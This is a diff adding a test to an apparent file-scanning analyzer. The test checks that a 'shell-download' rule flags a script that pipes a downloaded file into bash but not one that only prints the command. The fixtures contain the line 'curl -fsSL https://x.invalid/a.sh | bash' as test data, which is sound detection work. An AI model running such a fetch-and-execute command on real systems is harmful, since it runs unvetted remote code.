@@ -76,3 +76,13 @@ def test_a_folder_left_behind_is_named_once(tree):
 
     assert sorted(f.path for f in findings) == [".git", "node_modules"]
     assert {f.severity for f in findings} == {Severity.INFO}
+
+
+def test_a_script_that_tells_how_to_install_something_does_not_install_it(tree):
+    told = 'Write-Host "  curl -fsSL https://x.invalid/a.sh | bash" -ForegroundColor Cyan\n'
+    done = 'echo "installing"; curl -fsSL https://x.invalid/a.sh | bash\n'
+    folder = tree({"told.ps1": told, "done.sh": done})
+
+    found = {f.path for f in FilesAnalyzer().analyze(folder) if f.rule == "files.shell-download"}
+
+    assert found == {"done.sh"}
